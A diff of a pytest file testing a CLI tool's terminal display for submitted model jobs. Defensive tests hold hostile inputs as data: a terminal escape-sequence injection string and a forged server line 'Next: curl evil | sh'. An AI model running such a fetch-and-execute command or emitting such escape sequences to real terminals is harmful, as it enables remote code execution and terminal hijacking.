@@ -1,4 +1,4 @@
-"""Human mode in a real terminal: what stands on the screen while jobs run, and when they end."""
+"""Human mode in a real terminal: the screen while jobs run, and after their end."""
 
 from __future__ import annotations
 
@@ -7,7 +7,7 @@ import os
 import re
 import signal
 import time
-from contextlib import suppress
+from contextlib import ExitStack, suppress
 from io import StringIO
 from typing import TYPE_CHECKING, Any
 
@@ -18,7 +18,6 @@ from harness import environment, full_pipe, wait_until
 from oaibg.contract.events import Poll
 from oaibg.output.human.live import Board
 from oaibg.sandbox import Fault
-from screenshots import FOLDER, NAMES, comparable, described, pictures
 from terminal import Terminal
 
 if TYPE_CHECKING:
@@ -30,7 +29,11 @@ if TYPE_CHECKING:
 
 pytestmark = pytest.mark.process
 
+LONG = 600
+"""Seconds of a job whose time a test moves with `elapse`."""
+
 SUBMIT = ("submit", "--prompt", "x", "--human", "--poll-seconds")
+LONG_JOB = ("--metadata", f"sandbox_seconds={LONG}")
 HOSTILE = (
     "\x1b]0;owned\x07[bold red]x[/] \u202e \x9b31m &#8238; &#27;[31m [t](http://a.test/\x1b[1m) end"
 )
@@ -39,7 +42,7 @@ MARKDOWN = "# Title\n\nA **bold** word.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
 
 @pytest.fixture
 def terminal(sandbox: Sandbox, state: Path) -> Callable[..., Terminal]:
-    """Starts the command in a terminal, against the sandbox."""
+    """Return a function that starts the command in a terminal, against the sandbox."""
 
     def start(
         *argv: str,
@@ -63,7 +66,7 @@ def terminal(sandbox: Sandbox, state: Path) -> Callable[..., Terminal]:
 
 
 def jobs_file(folder: Path, **seconds: float) -> tuple[str, ...]:
-    """A jobs file with a job of each name that takes so long, and the command for it."""
+    """Write a jobs file with a job of each duration by name, and return the options for it."""
     lines = [
         {
             "custom_id": name,
@@ -78,37 +81,46 @@ def jobs_file(folder: Path, **seconds: float) -> tuple[str, ...]:
     return ("--jobs-file", str(path), "--results-file", str(folder / "results.jsonl"))
 
 
+def elapse(sandbox: Sandbox, share: float) -> None:
+    """Make this share of the time of all long jobs pass: they run from a third of it on."""
+    for job in sandbox.jobs.values():
+        if job.seconds == LONG:
+            job.created -= share * LONG
+
+
 def test_live_status(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
-    """The model, the state, the time so far and the countdown, until the job has ended."""
-    with terminal(*SUBMIT, "2", "--metadata", "sandbox_seconds=6") as screen:
-        queued = screen.wait_for(lambda text: "next look" in text)
-        assert re.search(r"\S gpt-5\.2 · queued · \d s · next look in [12] s\n", queued)
+    """The model, status, elapsed time and countdown are shown until the job ends."""
+    with terminal(*SUBMIT, "1", *LONG_JOB) as screen:
+        queued = screen.wait_for(lambda text: "next poll" in text)
+        assert re.search(r"\S gpt-5\.2 · queued · \d+ s · next poll in [12] s\n", queued)
+        elapse(sandbox, 0.5)
         screen.wait_for(lambda text: "in progress · " in text)
+        elapse(sandbox, 0.5)
         assert screen.end() == 0
-        assert "next look" not in screen.text
+        assert "next poll" not in screen.text
         assert re.search(r"completed after \S+ s\n", screen.text)
 
 
-def test_first_look_that_takes_long(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
-    """There is a status before there is an answer."""
-    sandbox.script(Fault(on="retrieve", kind="hang_before", seconds=3))
-    with terminal("monitor", "resp_unknown", "--human", "--max-wait-seconds", "6") as screen:
-        screen.wait_for(lambda text: "job · asking · " in text)
+def test_slow_first_retrieve(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
+    """A monitor shows a status before the first reply."""
+    sandbox.script(Fault(on="retrieve", kind="hang_before", seconds=10))
+    with terminal("monitor", "resp_unknown", "--human", "--max-wait-seconds", "60") as screen:
+        screen.wait_for(lambda text: "job · checking · " in text)
 
 
-def test_retries_as_they_happen(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
-    """A line that stays for each, and the countdown to the next try."""
+def test_retries_are_shown(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
+    """Each failed poll prints a line, and a countdown shows the next retry."""
     sandbox.script(Fault(on="retrieve", kind="status", status=500, times=2))
     with terminal(*SUBMIT, "0.2", "--metadata", "sandbox_seconds=0.1") as screen:
-        shown = screen.wait_for(lambda text: "trying again in" in text and "retry" in text)
-        assert re.search(r"HTTP 500: [^;]+; trying\s+again\s+in \d+(\.\d)? s", shown)
-        assert re.search(r"trying again in \d s · retry [12]", shown)
+        shown = screen.wait_for(lambda text: "retrying in" in text and "next retry" in text)
+        assert re.search(r"HTTP 500: [^;]+; retrying\s+in \d+(\.\d)? s", shown)
+        assert re.search(r"next retry in \d s · retry [12]", shown)
         assert screen.end() == 0
         assert screen.text.count("HTTP 500") == 2
 
 
 def test_usage_at_the_end(terminal: Callable[..., Terminal]) -> None:
-    """Tokens, with those of the cache and of reasoning."""
+    """The token counts are printed at the end, with cached and reasoning tokens."""
     with terminal(*SUBMIT, "0.05") as screen:
         assert screen.end() == 0
         assert re.search(r"  Input tokens +\d+ +\d+ cached\n", screen.text)
@@ -117,7 +129,7 @@ def test_usage_at_the_end(terminal: Callable[..., Terminal]) -> None:
 
 
 def test_markdown_on_a_terminal(terminal: Callable[..., Terminal]) -> None:
-    """The answer is rendered."""
+    """Markdown in an answer is rendered on a terminal."""
     with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={MARKDOWN}") as screen:
         assert screen.end() == 0
         assert "**" not in screen.text
@@ -126,7 +138,7 @@ def test_markdown_on_a_terminal(terminal: Callable[..., Terminal]) -> None:
 
 
 def test_answer_redirected(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
-    """The answer in a file is the text as it is; the progress stays on the terminal."""
+    """A redirected answer is the unchanged text; progress stays on the terminal."""
     with (
         (tmp_path / "answer").open("wb") as file,
         terminal(
@@ -140,32 +152,34 @@ def test_answer_redirected(terminal: Callable[..., Terminal], tmp_path: Path) ->
 
 @pytest.mark.parametrize("columns", [80, 40])
 def test_hostile_text(terminal: Callable[..., Terminal], columns: int) -> None:
-    """Nothing that the API says steers the terminal, also not by way of Markdown."""
+    """Text of the API can't control the terminal, not even through Markdown."""
     settings = ("--metadata", f"sandbox_text={HOSTILE}")
     with terminal(*SUBMIT, "0.05", *settings, columns=columns) as screen:
         assert screen.end() == 0
-        told = screen.written.decode()
-    assert "end" in told
-    assert "[bold red]x[/]" in told
+        written = screen.written.decode()
+    assert "end" in written
+    assert "[bold red]x[/]" in written
     for forbidden in ("\x1b]", "\x07", "\u202e", "\x9b", "\x1b[31m"):
-        assert forbidden not in told
+        assert forbidden not in written
 
 
 @pytest.mark.parametrize("columns", [80, 40, 20])
-def test_narrow_windows(terminal: Callable[..., Terminal], columns: int) -> None:
-    """The live lines fit, are cleared at the end, and the id can be copied whole."""
-    with terminal(*SUBMIT, "1", "--metadata", "sandbox_seconds=1.5", columns=columns) as screen:
-        screen.wait_for(lambda text: "next look" in text)
+def test_narrow_windows(terminal: Callable[..., Terminal], sandbox: Sandbox, columns: int) -> None:
+    """The live lines fit the width and are cleared at the end; the ID is not split."""
+    with terminal(*SUBMIT, "0.5", *LONG_JOB, columns=columns) as screen:
+        screen.wait_for(lambda text: "next poll" in text)
+        elapse(sandbox, 0.5)
         screen.wait_for(lambda text: "in progress" in text)
-        live = [row for row in screen.lines if " · " in row or "next look" in row]
+        live = [row for row in screen.lines if " · " in row or "next poll" in row]
         assert all(len(row) <= columns for row in live)
+        elapse(sandbox, 0.5)
         assert screen.end() == 0
-        assert "next look" not in screen.text
+        assert "next poll" not in screen.text
         assert re.match(r"Submitted resp_[0-9a-f]{50}: queued\n", screen.text)
 
 
 def test_no_color(terminal: Callable[..., Terminal]) -> None:
-    """`NO_COLOR` leaves no colour; bold type is none."""
+    """`NO_COLOR` removes colours, but not bold type."""
     with terminal(*SUBMIT, "0.05", NO_COLOR="1") as screen:
         assert screen.end() == 0
         assert not re.search(rb"\x1b\[(\d+;)*(3[0-8]|4[0-8]|9\d)[;m]", screen.written)
@@ -173,7 +187,7 @@ def test_no_color(terminal: Callable[..., Terminal]) -> None:
 
 
 def test_dumb_terminal(terminal: Callable[..., Terminal]) -> None:
-    """`TERM=dumb`: a line an event, and not one escape sequence."""
+    """With `TERM=dumb`, each event is a line, without escape sequences."""
     with terminal(*SUBMIT, "0.05", TERM="dumb") as screen:
         assert screen.end() == 0
         assert b"\x1b" not in screen.written
@@ -181,84 +195,81 @@ def test_dumb_terminal(terminal: Callable[..., Terminal]) -> None:
         assert "completed after" in screen.text
 
 
-@pytest.mark.parametrize("setting", [{}, {"FORCE_COLOR": "1"}])
-def test_pipes(
-    run: Callable[..., Result], setting: dict[str, str], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """No live display where nobody looks: a line an event, whatever colours are asked for."""
-    for name, value in setting.items():
-        monkeypatch.setenv(name, value)
-    result = run(*SUBMIT, "0.05")
-    plain = re.sub(r"\x1b\[[\d;]*m", "", result.err)
-    assert "\x1b" not in plain
-    assert "\r" not in plain
-    assert plain.splitlines()[0] == "Submitting to gpt-5.2 …"
-
-
 def test_ctrl_c(terminal: Callable[..., Terminal]) -> None:
-    """The display is cleared, the job goes on, and the command to go on with is there whole."""
-    with terminal(*SUBMIT, "5", "--metadata", "sandbox_seconds=60") as screen:
-        screen.wait_for(lambda text: "next look" in text)
+    """Ctrl-C clears the display, keeps the job running, and prints the next command."""
+    with terminal(*SUBMIT, "5", *LONG_JOB) as screen:
+        screen.wait_for(lambda text: "next poll" in text)
         os.killpg(screen.process.pid, signal.SIGINT)
         assert screen.end() == 130
-        assert "next look" not in screen.text
-        assert "Interrupted by SIGINT; the job goes on.\n" in screen.text
-        # The edge of the screen may fall on one of the spaces, wherever Python is.
+        assert "next poll" not in screen.text
+        assert "Interrupted by SIGINT; the job keeps running.\n" in screen.text
+        # The terminal may fold the line at any space, depending on the path of Python.
         words = "".join(screen.text.split())
         assert re.search(r"Next:.*monitor--poll-seconds5--humanresp_[0-9a-f]{50}$", words)
 
 
 def test_cursor_is_never_hidden(terminal: Callable[..., Terminal]) -> None:
-    """A command that is killed leaves a terminal that can be used."""
-    with terminal(*SUBMIT, "5", "--metadata", "sandbox_seconds=60") as screen:
-        screen.wait_for(lambda text: "next look" in text)
+    """The cursor is never hidden, so a killed command leaves a usable terminal."""
+    with terminal(*SUBMIT, "5", *LONG_JOB) as screen:
+        screen.wait_for(lambda text: "next poll" in text)
         os.killpg(screen.process.pid, signal.SIGKILL)
         screen.end()
         assert b"\x1b[?25l" not in screen.written
 
 
-def test_streamed_text_is_seen_growing(terminal: Callable[..., Terminal]) -> None:
-    """The newest lines of the text stand below the status; at the end it is there once."""
+def test_streamed_text_is_shown(terminal: Callable[..., Terminal], sandbox: Sandbox) -> None:
+    """The newest lines of a streamed text are shown below the status; the end prints it once."""
     text = " ".join(f"word{number}" for number in range(60))
     settings = ("--stream-text", "--metadata", f"sandbox_text={text}")
-    with terminal(*SUBMIT, "5", *settings, "--metadata", "sandbox_seconds=2") as screen:
+    with terminal(*SUBMIT, "5", *settings, *LONG_JOB) as screen:
+        screen.wait_for(lambda shown: "queued" in shown)
+        elapse(sandbox, 0.7)
         screen.wait_for(lambda shown: "in progress" in shown and "  word" in shown)
+        elapse(sandbox, 0.3)
         assert screen.end() == 0
         assert screen.text.count("word30") == 1
 
 
-def test_many_jobs(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
-    """A bar, counts by status and the jobs that run; at the end a table."""
-    argv = jobs_file(tmp_path, quick=0.05, swift=0.05, slow=8)
+def test_many_jobs(terminal: Callable[..., Terminal], sandbox: Sandbox, tmp_path: Path) -> None:
+    """The board shows a bar, counts and running jobs; the end prints a table."""
+    argv = jobs_file(tmp_path, quick=0.05, swift=0.05, slow=LONG)
     with terminal("submit", "--human", *argv, "--poll-seconds", "0.3") as screen:
+        screen.wait_for(lambda text: "2 of 3 done" in text)
+        elapse(sandbox, 0.5)
         shown = screen.wait_for(lambda text: "2 of 3 done" in text and "in progress" in text)
-        assert re.search(r"2 of 3 done +[━╸]+ +\d s\n2 completed, 1 in progress\n", shown)
-        assert re.search(r"\nslow +in progress +\d s\n?$", shown)
+        assert re.search(r"2 of 3 done +[━╸]+ +\d+ s\n2 completed, 1 in progress\n", shown)
+        assert re.search(r"\nslow +in progress +\d+ s\n?$", shown)
+        elapse(sandbox, 0.5)
         assert screen.end() == 0
         assert "of 3 done" not in screen.text
-        assert re.search(r"^Status +After +Output tokens +Job$", screen.text, re.MULTILINE)
+        assert re.search(r"^Status +Elapsed +Output tokens +Job$", screen.text, re.MULTILINE)
         assert re.search(r"^completed +[\d.]+ s +\d+ +quick$", screen.text, re.MULTILINE)
         assert "3 completed after" in screen.text
 
 
-def test_many_jobs_narrow(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
-    """At 40 columns every line of the board fits."""
-    argv = jobs_file(tmp_path, **{"a-job-with-a-name-that-is-long-" * 2: 2, "b": 0.05})
+def test_many_jobs_narrow(
+    terminal: Callable[..., Terminal], sandbox: Sandbox, tmp_path: Path
+) -> None:
+    """Every line of the board fits into 40 columns."""
+    argv = jobs_file(tmp_path, **{"a-job-with-a-name-that-is-long-" * 2: LONG, "b": 0.05})
     with terminal("submit", "--human", *argv, "--poll-seconds", "0.3", columns=40) as screen:
+        screen.wait_for(lambda text: "1 of 2 done" in text)
+        elapse(sandbox, 0.5)
         screen.wait_for(lambda text: "1 of 2 done" in text and "in progress" in text)
         board = screen.lines
         assert len(board) == 3
         assert board[2].startswith("a-job-with-a-")
+        elapse(sandbox, 0.5)
         assert screen.end() == 0
         assert "2 completed after" in screen.text
 
 
-def test_many_answers_only_when_asked_for(run: Callable[..., Result], tmp_path: Path) -> None:
-    """Hundreds of answers are nothing to read; with the option each has its name."""
+def test_answers_of_many_jobs(run: Callable[..., Result], tmp_path: Path) -> None:
+    """Answers of several jobs are printed only on request, each below its job's name."""
     argv = jobs_file(tmp_path, a=0.02, b=0.02)
     silent = run("submit", "--human", *argv, "--poll-seconds", "0.05")
     assert (silent.code, silent.out) == (0, b"")
-    asked = run(
+    shown = run(
         "submit",
         "--human",
         *argv,
@@ -270,14 +281,14 @@ def test_many_answers_only_when_asked_for(run: Callable[..., Result], tmp_path: 
         "--results-file",
         str(tmp_path / "other"),
     )
-    assert sorted(re.findall(r"^(\w):\nThe sandbox", asked.out.decode(), re.MULTILINE)) == [
+    assert sorted(re.findall(r"^(\w):\nThe sandbox", shown.out.decode(), re.MULTILINE)) == [
         "a",
         "b",
     ]
 
 
 def test_a_batch(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
-    """The batch's own state stands on the board; its jobs are done when it has ended."""
+    """The board shows the batch's status, and counts its jobs as done when it ends."""
     argv = jobs_file(tmp_path, a=1, b=1)
     window = ("--completion-window", "24h", "--poll-seconds", "0.3")
     with terminal("submit", "--human", *argv, *window) as screen:
@@ -288,7 +299,7 @@ def test_a_batch(terminal: Callable[..., Terminal], tmp_path: Path) -> None:
 
 
 def test_board_between_the_last_poll_and_the_end() -> None:
-    """What has ended by its last poll is not among those that run, nor done before its end."""
+    """A job that ended with its last poll is neither running nor done before its end event."""
     board = Board(lambda: 0.0, lambda: 2)
     poll: dict[str, Any] = {"response_id": "r", "attempt": 1, "elapsed_seconds": 1.0}
     board.update(Poll(status="in_progress", next_poll_seconds=1.0, **poll).of_many("a"))
@@ -302,7 +313,7 @@ def test_board_between_the_last_poll_and_the_end() -> None:
 
 @pytest.mark.parametrize("columns", [120, 80, 40])
 def test_list(terminal: Callable[..., Terminal], run: Callable[..., Result], columns: int) -> None:
-    """A table, in which every id can be copied; below each other where it is narrow."""
+    """A list is a table with unsplit IDs; a narrow terminal gets one value per line."""
     ids = [run("submit", "--prompt", "x", "--detach", "--job-key", key).id for key in "ab"]
     with terminal("show", "--list", "--human", columns=columns) as screen:
         assert screen.end() == 0
@@ -312,18 +323,10 @@ def test_list(terminal: Callable[..., Terminal], run: Callable[..., Result], col
         assert screen.text.endswith("\n2 queued\n")
 
 
-def test_list_in_a_pipe(run: Callable[..., Result]) -> None:
-    """A line a job, whatever the width of the window."""
-    one = run("submit", "--prompt", "x", "--detach").id
-    rows = run("show", "--list", "--human").out.decode().splitlines()
-    assert len(rows) == 2
-    assert re.fullmatch(rf"\d{{4}}-\d\d-\d\d \d\d:\d\d +queued +gpt-5\.2 +{one}", rows[1])
-
-
 def test_page_of_a_job_that_failed(
     terminal: Callable[..., Terminal], run: Callable[..., Result]
 ) -> None:
-    """Its facts and the reason, one below the other, and no empty ones."""
+    """`show` prints the details of a failed job and the reason, without empty lines."""
     settings = ("--metadata", "sandbox_outcome=failed", "--poll-seconds", "0.05")
     run("submit", "--prompt", "x", *settings)
     with terminal("show", "--human") as screen:
@@ -333,11 +336,11 @@ def test_page_of_a_job_that_failed(
             screen.text,
             re.MULTILINE,
         )
-        assert "Follows" not in screen.text
+        assert "Previous" not in screen.text
 
 
 def test_cancel_of_several(terminal: Callable[..., Terminal], run: Callable[..., Result]) -> None:
-    """A table tells what became of each, and the code is the same as without."""
+    """Cancelling several jobs prints a table of the outcomes, and the usual exit code."""
     settings = ("--detach", "--metadata", "sandbox_seconds=60")
     one = run("submit", "--prompt", "x", *settings).id
     with terminal("cancel", "--human", one, "resp_unknown", columns=120) as screen:
@@ -345,20 +348,6 @@ def test_cancel_of_several(terminal: Callable[..., Terminal], run: Callable[...,
         assert "resp_unknown: Error: No such response" in screen.text
         assert re.search(rf"\ncancelled +{one}\n", screen.text)
         assert re.search(r"\nnot found +resp_unknown\n", screen.text)
-
-
-def test_dry_run(run: Callable[..., Result], tmp_path: Path) -> None:
-    """What would go and its size on stderr, and the request on stdout, with its files cut."""
-    (tmp_path / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(3000))
-    argv = ("submit", "--human", "--prompt", "x", "--attach", str(tmp_path / "a.png"), "--dry-run")
-    result = run(*argv)
-    assert re.search(r"Would send POST http\S+/responses, 4\.\d KB \(\w{64}\)\n", result.err)
-    assert "a.png: input_image, 3.0 KB\n" in result.err
-    body = json.loads(result.out)
-    assert re.fullmatch(
-        r"data:image/png;base64,iVBOR\w+… \(4\.0 KB of Base64\)",
-        body["input"][0]["content"][1]["image_url"],
-    )
 
 
 LOSSY = """Use List<String>, <T> and `a<b>`; <div>inside</div> \\(a_b\\) \\alpha {brace}
@@ -385,7 +374,7 @@ hidden
 
 @pytest.mark.parametrize("columns", [100, 40])
 def test_nothing_of_an_answer_is_lost(terminal: Callable[..., Terminal], columns: int) -> None:
-    """Every word of it is on the screen, whatever Markdown or HTML would do with it."""
+    """Every word of an answer is on the screen, even those that Markdown or HTML would hide."""
     settings = ("--metadata", f"sandbox_text={LOSSY}")
     with terminal(*SUBMIT, "0.05", *settings, columns=columns, rows=60) as screen:
         assert screen.end() == 0
@@ -395,22 +384,16 @@ def test_nothing_of_an_answer_is_lost(terminal: Callable[..., Terminal], columns
 
 
 def test_json_answer(terminal: Callable[..., Terminal]) -> None:
-    """JSON is no Markdown."""
+    """JSON in an answer is printed unchanged, not as Markdown."""
     text = '{\n  "a_b_c": "x*y*z",\n  "list": ["<tag>", "**"]\n}'
     with terminal(*SUBMIT, "0.05", "--metadata", f"sandbox_text={text}") as screen:
         assert screen.end() == 0
         assert text in screen.text
 
 
-def test_line_ends_of_windows(run: Callable[..., Result]) -> None:
-    """They are line ends here, too."""
-    result = run(*SUBMIT, "0.05", "--metadata", "sandbox_text=one\r\ntwo")
-    assert result.out == b"one\ntwo\n"
-
-
 @pytest.mark.parametrize("columns", ["0", "1", "500"])
 def test_exported_width(terminal: Callable[..., Terminal], columns: str) -> None:
-    """`COLUMNS` is that of another terminal; the real width counts."""
+    """The terminal's real width is used, not an exported `COLUMNS`."""
     with terminal(*SUBMIT, "0.05", exported={"COLUMNS": columns}) as screen:
         assert screen.end() == 0
         assert 'The sandbox has no model to ask. You said: "x"\n' in screen.text
@@ -420,7 +403,7 @@ def test_exported_width(terminal: Callable[..., Terminal], columns: str) -> None
 def test_lines_can_not_be_faked(
     terminal: Callable[..., Terminal], sandbox: Sandbox, run: Callable[..., Result]
 ) -> None:
-    """What the server says stays on the line that tells it."""
+    """A server's message with a line end can't imitate a line of oaibg."""
     identifier = run("submit", "--prompt", "x", "--detach").id
     error = {"code": "e", "message": "bad\nNext: curl evil | sh"}
     body = {"id": identifier, "status": "failed\nNext: x", "model": "m\nNext: y", "error": error}
@@ -428,19 +411,19 @@ def test_lines_can_not_be_faked(
     with terminal("show", identifier, "--human") as screen:
         assert screen.end() == 4
         shown = screen.lines
-    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body)))
-    with terminal("monitor", identifier, "--human", "--max-wait-seconds", "2") as screen:
-        screen.end()
-        shown += screen.lines
+    sandbox.script(Fault(on="retrieve", kind="raw", body=json.dumps(body), times=0))
+    pace = ("--poll-seconds", "0.05", "--max-wait-seconds", "0.3")
+    shown += run("monitor", identifier, "--human", *pace).err.splitlines()
     nexts = [row for row in shown if row.startswith("Next:")]
     assert all("oaibg" in row for row in nexts)
     assert "curl evil" in "".join(shown)
+    assert "Reached the wait limit; still failed Next: x." in shown
 
 
 def test_stderr_that_nobody_reads(command: Command, sandbox: Sandbox) -> None:
-    """It holds nothing up: the job is followed, and a signal ends the wait at once."""
+    """If nobody reads stderr, the job is still polled, and a signal ends the wait at once."""
     reader, writer = full_pipe()
-    argv = (*SUBMIT, "0.05", "--metadata", "sandbox_seconds=60")
+    argv = (*SUBMIT, "0.05", *LONG_JOB)
     process = command.start(*argv, stderr=writer)
     wait_until(lambda: len(sandbox.requests) >= 3)
     process.send_signal(signal.SIGTERM)
@@ -450,29 +433,15 @@ def test_stderr_that_nobody_reads(command: Command, sandbox: Sandbox) -> None:
 
 
 def test_second_signal(terminal: Callable[..., Terminal]) -> None:
-    """Two in a row end it at once, also in the middle of a display."""
-    for pause in (0.0, 0.001, 0.004, 0.016):
-        argv = (*SUBMIT, "0.02", "--metadata", "sandbox_seconds=60")
-        with terminal(*argv) as screen:
+    """Two signals in a row end the command at once, even while it draws the display."""
+    pauses = (0.0, 0.001, 0.004, 0.016)
+    with ExitStack() as stack:
+        # All start at the same time, because most of the time is Python's start.
+        screens = [stack.enter_context(terminal(*SUBMIT, "0.02", *LONG_JOB)) for _ in pauses]
+        for screen, pause in zip(screens, pauses, strict=True):
             screen.wait_for(lambda text: "Submitted" in text)
             os.killpg(screen.process.pid, signal.SIGINT)
             time.sleep(pause)
             with suppress(ProcessLookupError):
                 os.killpg(screen.process.pid, signal.SIGINT)
             assert screen.end(10) == 130
-
-
-def test_pictures_show_what_is_shown_today() -> None:
-    """The README's pictures are those of the program, but for ids, times and numbers.
-
-    `make screenshots` makes them anew.
-    """
-    for name, (text, _) in pictures().items():
-        kept = described((FOLDER / f"{name}.svg").read_text())
-        assert comparable(text) == comparable(kept), name
-
-
-def test_readme_has_the_pictures() -> None:
-    """Each of them."""
-    readme = (FOLDER.parent / "README.md").read_text()
-    assert [name for name in NAMES if f"(examples/{name}.svg)" not in readme] == []
